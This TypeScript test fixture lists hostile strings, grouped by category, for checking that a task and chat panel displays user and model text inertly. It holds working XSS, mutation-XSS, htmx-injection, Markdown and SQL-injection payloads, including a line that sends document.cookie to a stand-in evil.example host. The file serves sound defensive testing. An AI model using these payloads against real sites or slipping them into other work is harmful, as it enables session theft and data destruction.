/**
 * Hostile strings: what a person, a pasted file, another process writing the SQLite file, or a
 * model told to misbehave may put into task names, profile names, chat messages and replies.
 * Every string must show as written and do nothing.
 *
 * Payloads that would run script set `window.__pwned` / `top.__pwned` / `parent.__pwned`, open a
 * dialog, or load something from `evil.example`, so a test can see that they ran. The htmx ones
 * aim at the panel's real routes (`/undo`, `/tasks/1/delete`, `/chat/clear` …) and at `load`
 * triggers, so a processed attribute would change the list or send a request the host can see.
 *
 * Categories: script tags, event-handler attributes, `javascript:` and other dangerous URLs, SVG
 * and MathML (mutation XSS included), htmx attributes and tags, broken and nested tags, unicode
 * tricks, Markdown constructs, other template and parser confusions, and 10,000-character strings.
 */

export type HostileCategory = 'script' | 'handler' | 'url' | 'svg-math' | 'htmx' | 'broken' | 'unicode' | 'markdown' | 'misc' | 'long';

export interface HostileCase {
  category: HostileCategory;
  text: string;
}

const P = 'window.__pwned=1';
const EVIL = 'https://evil.example';

const script: string[] = [
  `<script>${P}</script>`,
  `<SCRIPT>${P}</SCRIPT>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `</script><script>${P}</script>`,
  `<scr<script>ipt>${P}</scr</script>ipt>`,
  `<script>alert(1)</script>`,
  `<script type="module">import('${EVIL}/m.js')</script>`,
  `<script>fetch('${EVIL}/leak?c='+document.cookie)</script>`,
  `<script\x20type="text/javascript">top.__pwned=1</script>`,
  `<script nonce="">parent.__pwned=1</script>`,
  `"><script>${P}</script>`,
  `'><script>${P}</script>`,
  `</textarea><script>${P}</script>`,
  `</title><script>${P}</script>`,
  `</option></select><script>${P}</script>`,
  `<noscript><p title="</noscript><script>${P}</script>">`,
  `<iframe srcdoc="<script>top.__pwned=1</script>"></iframe>`,
];

const handler: string[] = [
  `<img src=x onerror=${P}>`,
  `<img src="x" onerror="alert(1)">`,
  `<img/src/onerror=${P}>`,
  `<body onload=${P}>`,
  `<div onmouseover="${P}">hover me</div>`,
  `<details open ontoggle=${P}>`,
  `<input autofocus onfocus=${P}>`,
  `<select autofocus onfocus=${P}></select>`,
  `<textarea autofocus onfocus=${P}></textarea>`,
  `<video><source onerror="${P}"></video>`,
  `<audio src=x onerror=${P}>`,
  `<marquee onstart=${P}>x</marquee>`,
  `<button onclick="${P}">Click</button>`,
  `<x onclick=${P} style=display:block>click</x>`,
  `" onmouseover="${P}" x="`,
  `' onfocus='${P}' autofocus='`,
  `\` onload=\`${P}\``,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<form><button formaction=javascript:${P}>x</button></form>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<img srcset="${EVIL}/a.png 1x">`,
  `<div style="background:url(${EVIL}/bg.png)">x</div>`,
];

const url: string[] = [
  `javascript:${P}`,
  `JaVaScRiPt:alert(1)`,
  `java\tscript:${P}`,
  ` \x01javascript:${P}`,
  `javascript&colon;${P}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${P}`,
  `<a href="javascript:${P}">click</a>`,
  `<a href=javascript&#58;${P}>click</a>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `<a href="data:text/html,<script>top.__pwned=1</script>">x</a>`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `<iframe src="javascript:top.__pwned=1"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
  `<base href="${EVIL}/">`,
  `${EVIL}/track.png`,
  `//evil.example/x`,
  `<form action="${EVIL}/steal"><input name=q value=1><button>go</button></form>`,
];

const svgMath: string[] = [
  `<svg onload=${P}>`,
  `<svg><script>${P}</script></svg>`,
  `<svg><animate onbegin=${P} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${P}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>top.__pwned=1</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='top.__pwned=1'/></svg>#x"/></svg>`,
  `<svg><style><img src=x onerror=${P}></style></svg>`,
  `<svg><set attributeName=onmouseover to=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${P}></style></mglyph></table></mtext></math>`,
  `<math><mi xlink:href="javascript:${P}">x</mi></math>`,
  `<math href="javascript:${P}"><mtext>click</mtext></math>`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${P}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${P}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${P}>">`,
];

const htmx: string[] = [
  `<div hx-get="/undo" hx-trigger="load">x</div>`,
  `<button hx-post="/tasks/1/delete" hx-trigger="load" hx-target="body" hx-swap="none">x</button>`,
  `<img hx-on:load="${P}" src="data:,">`,
  `<div hx-on::after-init="${P}">x</div>`,
  `<div hx-on:htmx:after:swap="${P}">x</div>`,
  `<div data-hx-post="/chat/clear" data-hx-trigger="load">x</div>`,
  `<div hx-action="/undo" hx-method="post" hx-trigger="load">x</div>`,
  `" hx-post="/undo" hx-trigger="load" x="`,
  `' hx-get='/view' hx-trigger='load' x='`,
  `<hx-partial hx-target="#task-list" hx-swap="innerHTML"><li>owned</li></hx-partial>`,
  `<hx-oob target="#status">owned</hx-oob>`,
  `<template hx type="partial" hx-target="#counts">owned</template>`,
  `<div id="status" hx-swap-oob="true">owned</div>`,
  `<ul id="task-list" hx-swap-oob="innerHTML"></ul>`,
  `<form hx-post="/profiles/1/delete" hx-trigger="load"></form>`,
  `<div hx-get="/view" hx-trigger="every 1s" hx-vals='js:{a: window.__pwned=1}'>x</div>`,
  `<a hx-boost="true" href="${EVIL}/">x</a>`,
  `<head><meta name="htmx-config" content='{"allowEval": true}'></head>`,
  `<div hx-confirm="js:${P}" hx-post="/undo" hx-trigger="load">x</div>`,
  `hx-on:click="${P}"`,
  `<hx-partial><script>${P}</script></hx-partial>`,
];

const broken: string[] = [
  `<img src=x onerror=${P}`,
  `<<script>>${P}<</script>>`,
  `<!--<script>${P}</script>-->`,
  `--><script>${P}</script><!--`,
  `<![CDATA[<script>${P}</script>]]>`,
  `<img """><script>${P}</script>">`,
  `<a href="${EVIL}`,
  `<x/onclick=${P}>click`,
  `<style>@import '${EVIL}/x.css';</style>`,
  `<style>*{background:url(${EVIL}/bg)}</style>`,
  `</div></li></ul></section><script>${P}</script>`,
  `<!DOCTYPE html><html><body onload=${P}>`,
  `<plaintext><script>${P}</script>`,
  `<xmp><script>${P}</script></xmp>`,
  `&lt;script&gt;${P}&lt;/script&gt;`,
  `&amp;lt;b&amp;gt;`,
  `&#60;script&#62;${P}&#60;/script&#62;`,
  `\\u003cscript\\u003e${P}\\u003c/script\\u003e`,
  `%3Cscript%3E${P}%3C%2Fscript%3E`,
  `<`,
  `>`,
  `&`,
  `"'\``,
  `</`,
];

const unicode: string[] = [
  `\u202Etxt.exe\u202C`,
  `safe\u202E<script>${P}</script>\u202C`,
  `\u2067admin\u2069 \u2066user\u2069`,
  `\u200B<\u200Bscript\u200B>${P}`,
  `\uFEFF<script>${P}</script>`,
  `Z̷̡̛͓a̶̧͎l̵̰̓g̸̨͝o̴̻͠ ̸̮̈t̵̖̒e̷̻͝x̸͓̾t̴̯̚`,
  `ｊａｖａｓｃｒｉｐｔ：${P}`,
  `＜script＞${P}＜/script＞`,
  `\u2028line\u2029para`,
  `👨‍👩‍👧‍👦 family 🏳️‍🌈 flag`,
  `e\u0301 vs \u00e9 and \u212B vs \u00C5`,
  `\u0000\u0007\u001b[31mred\u001b[0m`,
];

const markdown: string[] = [
  `[click me](javascript:${P})`,
  `[click me](JAVASCRIPT:alert(1))`,
  `[x](javascript&#58;${P})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![tracker](${EVIL}/pixel.png)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `[a](${EVIL}/ "title\\" onmouseover=\\"${P}")`,
  `[ref][1]\n\n[1]: javascript:${P}`,
  `<${EVIL}/autolink>`,
  `<javascript:${P}>`,
  '```"><script>' + P + '</script>\ncode\n```',
  '`<img src=x onerror=' + P + '>`',
  `| a | b |\n|--:|:-:|\n| <script>${P}</script> | 2 |`,
  `> <img src=x onerror=${P}>\n> quoted`,
];

const misc: string[] = [
  `{{constructor.constructor('${P}')()}}`,
  `\${alert(1)}`,
  `<%= 7*7 %>`,
  `OTCHIP0OT`,
  `[a](https://example.com/OTCHIP0OT) OTCHIP1OT`,
  `'; DROP TABLE task; --`,
  `" OR 1=1 --`,
  `"}]}\n{"type":"push","html":"<img src=x onerror=${P}>"}`,
  `__proto__`,
  `constructor`,
  `</style></head><body><script>${P}</script>`,
];

/** 10,000 characters each: escaping, rendering and the 500-character name limit at scale. */
const long: string[] = [
  'A'.repeat(10_000),
  '<script>'.repeat(1_250),
  `<img src=x onerror=${P}>`.repeat(300).slice(0, 10_000),
  '<div hx-get="/undo" hx-trigger="load">'.repeat(300).slice(0, 10_000),
  '\u202E'.repeat(5_000) + 'x'.repeat(5_000),
  '[a]('.repeat(2_500),
  '*_'.repeat(5_000),
  '&lt;'.repeat(2_500),
  ('<b>'.repeat(1_000) + '</b>'.repeat(1_000)).padEnd(10_000, '!'),
];

export const HOSTILE_CASES: HostileCase[] = [
  ...script.map((text) => ({ category: 'script' as const, text })),
  ...handler.map((text) => ({ category: 'handler' as const, text })),
  ...url.map((text) => ({ category: 'url' as const, text })),
  ...svgMath.map((text) => ({ category: 'svg-math' as const, text })),
  ...htmx.map((text) => ({ category: 'htmx' as const, text })),
  ...broken.map((text) => ({ category: 'broken' as const, text })),
  ...unicode.map((text) => ({ category: 'unicode' as const, text })),
  ...markdown.map((text) => ({ category: 'markdown' as const, text })),
  ...misc.map((text) => ({ category: 'misc' as const, text })),
  ...long.map((text) => ({ category: 'long' as const, text })),
];

export const HOSTILE: string[] = HOSTILE_CASES.map((c) => c.text);
